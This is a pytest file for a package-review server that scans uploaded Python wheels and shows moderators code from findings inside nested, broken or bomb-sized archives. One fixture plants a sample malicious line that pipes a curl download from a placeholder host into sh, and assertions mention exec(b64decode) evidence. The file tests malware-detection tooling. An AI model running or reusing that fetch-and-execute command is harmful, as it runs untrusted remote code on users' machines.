"""The report's pages for findings that lie in archives inside the file: their code, or why there is none."""

from __future__ import annotations

import gzip
import io
import re
import tarfile
import zipfile
from html import unescape
from typing import Any

import pytest

from support.publishing import FoundedIndex
from support.rows import a_file, a_release
from support.web import a_finding, a_scan, a_zip, client_of, logged_in_user
from wheelmark.scan import ScanBounds, load_ruleset, scan_stream
from wheelmark.server.projects.models import File
from wheelmark.server.projects.rules import FileState
from wheelmark.server.publishing.keys import file_key
from wheelmark.server.review.archives import read_members
from wheelmark.server.stores import current_store

pytestmark = pytest.mark.django_db

CODE = b"".join(b"line_%d = %d\n" % (number, number) for number in range(1, 41))


def page(address: str) -> str:
    response = client_of(logged_in_user("mod", is_moderator=True)).get(address)
    assert response.status_code == 200
    return response.content.decode()


def held_with(members: dict[str, bytes], findings: list[dict[str, Any]]) -> File:
    body = a_zip(members)
    a_release("demo", "1.0")
    file = a_file("demo", "1.0", state=FileState.HELD, content=body)
    current_store().put(file_key(file.sha256), [body], immutable=True)
    a_scan(file, findings=findings)
    return file


def a_tar_gz(members: dict[str, bytes]) -> bytes:
    buffer = io.BytesIO()
    with tarfile.open(fileobj=buffer, mode="w:gz") as archive:
        for name, body in members.items():
            entry = tarfile.TarInfo(name)
            entry.size = len(body)
            archive.addfile(entry, io.BytesIO(body))
    return buffer.getvalue()


def a_bomb(size: int) -> bytes:
    """A tar of few bytes, with a long member before the module: who wants the module has to come by it."""
    return a_tar_gz({"fill": b"\0" * size, "a.py": CODE})


def nested(levels: int) -> tuple[bytes, str]:
    """A module in so many archives, each in the next, and its path inside the outermost."""
    body, path = CODE, "a.py"
    for level in range(levels):
        body = a_zip({path.partition("!/")[0]: body})
        path = f"{level}.zip!/{path}"
    return body, path.partition("!/")[2]


@pytest.mark.parametrize(
    ("archive", "inner"),
    [
        (a_zip({"pkg/a.py": CODE}), "pkg/a.py"),
        (a_tar_gz({"pkg/a.py": CODE}), "pkg/a.py"),
        (gzip.compress(CODE), "lib"),
        (b"#!/usr/bin/env python\n" + a_zip({"a.py": CODE}), "a.py"),
        nested(3),
    ],
    ids=["zip", "tar", "one stream", "behind other bytes", "as deep as a scan looks"],
)
def test_finding_inside_an_archive_shows_its_lines_and_leads_to_them(
    index: FoundedIndex, archive: bytes, inner: str
) -> None:
    member = f"demo/lib.bin!/{inner}"
    file = held_with({"demo/__init__.py": b"import lib\n", "demo/lib.bin": archive}, [a_finding(member, line=30)])
    case = page(f"/review/files/{file.pk}/")
    assert "line_27 = 27" in case
    assert "line_26 = 26" not in case
    assert "code is not shown" not in case
    (query, anchor) = re.findall(rf'href="/review/files/{file.pk}/code/\?(member=[^"#]+)#([^"]+)"', case)[0]
    code = page(f"/review/files/{file.pk}/code/?{unescape(query)}")
    assert code.index("decodes text and executes it") < code.index(f'id="{anchor}"') < code.index("line_30 = 30")
    assert "Not everything could be read" not in code


def test_members_inside_archives_stand_in_the_list_those_with_findings_first(index: FoundedIndex) -> None:
    file = held_with(
        {"demo/__init__.py": b"import lib\n", "demo/lib.zip": a_zip({"a.py": CODE})},
        [a_finding("demo/lib.zip!/a.py", line=30)],
    )
    html = page(f"/review/files/{file.pk}/code/")
    assert html.index("demo/lib.zip!/a.py") < html.index("demo/__init__.py")
    assert "3 members" in html
    assert "was not read" not in html


def test_list_names_what_has_findings_and_was_not_read(index: FoundedIndex) -> None:
    findings = [a_finding("lib.zip!/a.py", line=number) for number in (1, 2)]
    findings += [a_finding(f"gone_{number}.py") for number in range(20)]
    file = held_with(
        {"lib.zip": a_zip({"a.py": CODE})[:-40]}, [*findings, a_finding("lib.zip", line=0), a_finding("", line=0)]
    )
    html = page(f"/review/files/{file.pk}/code/")
    assert "Findings also lie in what was not read:" in html
    assert "<code>lib.zip!/a.py</code> (2)" in html
    assert "and 1 more" in html
    assert "<code>lib.zip</code> (1)" not in html
    assert "<code></code>" not in html  # a finding about the whole lies in no member


def test_paths_are_those_of_the_scan_where_two_members_have_the_same(index: FoundedIndex) -> None:
    """One lies beside the archive under the path of one inside it: a report must not show one for the other."""
    source = b"import os\nos.system('curl https://files.example.invalid/x | sh')\n"
    members = {
        "demo/__init__.py": b"import sys\nsys.path.insert(0, __file__ + '/../lib.zip')\nimport a\n",
        "demo/lib.zip": a_zip({"a.py": b"\n" * 6 + source}),
        "demo/lib.zip!/a.py": b"harmless = True\n",
    }
    report = scan_stream(
        io.BytesIO(a_zip(members)),
        filename="demo-1.0-py3-none-any.whl",
        ruleset=load_ruleset(),
        bounds=ScanBounds(),
    )
    findings = [finding for finding in report.findings if finding.line == 8]
    assert {finding.member for finding in findings} == {"demo/lib.zip!/a#again.py"}
    file = held_with(members, [a_finding(finding.member, line=finding.line) for finding in findings])
    case = page(f"/review/files/{file.pk}/")
    assert "curl https://files.example.invalid/x" in case
    assert "harmless" not in case
    assert {"demo/lib.zip!/a.py", "demo/lib.zip!/a#again.py"} <= {
        member.path for member in read_members(current_store(), file, inside=True).by_place.values()
    }


@pytest.mark.parametrize(
    ("archive", "inner", "why"),
    [
        (a_zip({"a.py": CODE})[:-40], "a.py", "archive-broken"),
        (a_zip({"a.py": CODE}).replace(b"PK\x05\x06", b"PK\x05\x07"), "a.py", "archive-broken"),
        (gzip.compress(b"\0" * 60_000_000), "lib", "lines of the member were read"),
        (a_bomb(60_000_000), "a.py", "[member-size]"),
        (a_bomb(20_000_000), "a.py", "[archive-ratio]"),
        (*nested(4), "expected archives in at most 3 levels, got more"),
    ],
    ids=["cut", "damaged", "bomb of one stream", "bomb", "bomb by its ratio", "too deep"],
)
def test_page_stands_and_says_why_there_is_no_code(index: FoundedIndex, archive: bytes, inner: str, why: str) -> None:
    file = held_with(
        {"demo/__init__.py": CODE, "demo/lib.bin": archive},
        [a_finding(f"demo/lib.bin!/{inner}", line=30), a_finding(line=20)],
    )
    case = page(f"/review/files/{file.pk}/")
    assert "exec(b64decode" in case  # the evidence of the one
    assert "line_20 = 20" in case  # the lines of the other
    assert "Its code is not shown: " in case
    assert why in case
    assert case.count("code/?member=") == (2 if "lines of the member" in why else 1)
    code = page(f"/review/files/{file.pk}/code/")
    assert "demo/lib.bin" in code
    assert "Not everything could be read:" in code
    of_member = page(f"/review/files/{file.pk}/code/?member=demo/lib.bin!/{inner}")
    assert "Not everything could be read:" in of_member
    assert "This member " in of_member  # could not be read, or is too long to show


def test_bomb_beside_a_member_hides_it_on_no_page(index: FoundedIndex) -> None:
    buffer = io.BytesIO()
    with zipfile.ZipFile(buffer, "w", zipfile.ZIP_DEFLATED) as archive:
        archive.writestr("fill", b"\0" * 60_000_000)
        archive.writestr("a.py", CODE)
    file = held_with({"lib.zip": buffer.getvalue()}, [a_finding("lib.zip!/a.py", line=30)])
    assert "line_30 = 30" in page(f"/review/files/{file.pk}/")
    assert "line_30 = 30" in page(f"/review/files/{file.pk}/code/?member=lib.zip!/a.py")
    assert "Not everything could be read:" in page(f"/review/files/{file.pk}/code/")


def test_archives_inside_are_opened_for_those_who_ask_alone(index: FoundedIndex) -> None:
    """What compares two files, or an sdist with its wheel, knows the files' own members."""
    file = held_with({"demo/lib.zip": a_zip({"a.py": CODE}), "broken.zip": b"PK\x03\x04"}, [])
    found = read_members(current_store(), file)
    assert set(found.by_place) == {"demo/lib.zip", "broken.zip"}
    assert found.gaps == ()
